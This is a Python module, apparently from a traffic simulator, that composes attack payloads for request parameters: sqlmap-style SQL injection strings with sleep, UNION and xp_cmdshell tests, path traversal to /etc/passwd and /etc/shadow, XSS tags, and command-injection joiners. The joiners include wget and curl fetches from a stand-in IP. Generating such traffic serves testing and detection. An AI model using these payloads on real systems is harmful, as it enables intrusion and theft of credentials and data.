"""Payloads for parameters: the listed ones, and composed ones with numbers, names and disguises of their own."""

from urllib.parse import quote

from simulator.dice import Dice
from simulator.wordlist import entries

_BOUNDARIES = (("", ""), ("'", "'"), ('"', '"'), (")", "("), ("')", "('"), ("'))", "(('"), ("%'", "%'"))
_COMMENTS = ("-- -", "--", "#", "-- {word}", "/*")
_FILES = ("etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "proc/self/environ", "boot.ini", "etc/group")
_UPS = ("../", "..\\", "....//", "..%2f", "..%c0%af", "../")
_COMMANDS = (
    "id",
    "whoami",
    "cat /etc/passwd",
    "uname -a",
    "wget http://198.51.100.77/a.sh",
    "curl http://198.51.100.77/x",
)
_JOINERS = (";{}", "|{}", "`{}`", "$({})", "&& {}", "|| {}", "%0a{}")
_EVENTS = ("onerror", "onload", "onmouseover", "onfocus")
_TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "iframe")
_GUARD = (
    " AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(\"XSS\")</script>',table_name FROM information_schema.tables"
    " WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#"
)
_LEFT_RAW = "'\"();=<>,/*!:|{}[]$@`~^\\.-%"


def encoded(payload: str, times: int) -> str:
    """Return a payload percent-encoded for a query.

    Args:
        payload: Any text.
        times: 0 encodes only what no request line can hold, 1 everything, 2 everything twice.
    """
    if times == 0:
        return quote(payload, safe=_LEFT_RAW)
    for _ in range(times):
        payload = quote(payload, safe="")
    return payload


def make_payload(dice: Dice, family: str) -> str:
    """Return a payload of a family (see `simulator.wordlist.FAMILIES`): a listed one or a composed one."""
    composed = {"sql": sql, "traversal": _traversal, "scripting": _scripting, "commands": _command}
    if family in composed and dice.chance(0.6):
        return composed[family](dice)
    return dice.pick(entries(family))


def guard_check(dice: Dice) -> str:
    """Return what sqlmap asks first, to see whether something guards the site: a bit of every attack at once."""
    return f"{dice.whole(1000, 9999)}{_GUARD}"


def sql(dice: Dice) -> str:
    """Return what sqlmap appends to a parameter's value: a boundary, a test with random numbers, a comment."""
    before, after = dice.pick(_BOUNDARIES)
    number, other = dice.whole(1000, 9999), dice.whole(1000, 9999)
    word = "".join(dice.pick("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(4))
    comment = dice.pick(_COMMENTS).format(word=word)
    nulls = ",".join(["NULL"] * dice.whole(1, 10))
    made = dice.pick(
        (
            f"{before} AND {number}={dice.pick((number, other))} AND {after}{word}{after}={after}{word}",
            f"{before} AND {number}={number}{comment}",
            f"{before} OR {number}={number}{comment}",
            f"{before} ORDER BY {dice.whole(1, 40)}{comment}",
            f"{before} UNION ALL SELECT {nulls}{comment}",
            f"{before} UNION SELECT {number},CONCAT(0x71,user(),0x71){comment}",
            f"{before} AND (SELECT {number} FROM (SELECT(SLEEP(5)))x){comment}",  # noqa: S608 - nobody's query
            f"{before};SELECT PG_SLEEP({dice.whole(1, 9)}){comment}",
            f"{before};WAITFOR DELAY '0:0:{dice.whole(1, 9)}'{comment}",
            f"{before} AND EXTRACTVALUE({number},CONCAT(0x5c,0x71,(SELECT (ELT({number}={number},1))))){comment}",
            f"{before} AND {number}=CAST((CHR(113))||(SELECT (CASE WHEN ({number}={number}) THEN 1 ELSE 0 END))",
            f"(SELECT CONCAT(CONCAT('q',(CASE WHEN ({number}={other}) THEN '1' ELSE '0' END)),'q'))",
            f"{before}{dice.pick(chr(34) + chr(39) + '().,')}{word}<'{chr(34)}>{word}",
        )
    )
    return made.replace(" ", "/**/") if dice.chance(0.1) else made


def _traversal(dice: Dice) -> str:
    end = dice.pick(("", "", "%00", "%00.png", "%2500.html"))
    return dice.pick(_UPS) * dice.whole(3, 9) + dice.pick(_FILES) + end


def _scripting(dice: Dice) -> str:
    call = f"{dice.pick(('alert', 'confirm', 'prompt'))}({dice.whole(1, 9999)})"
    before = dice.pick(("", '">', "'>", "</title>", "--><"))
    if dice.chance(0.5):
        return f"{before}<{dice.pick(('script', 'ScRiPt', 'script/x'))}>{call}</script>"
    return f"{before}<{dice.pick(_TAGS)} {dice.pick(_EVENTS)}={call}>"


def _command(dice: Dice) -> str:
    return dice.pick(_JOINERS).format(dice.pick(_COMMANDS))
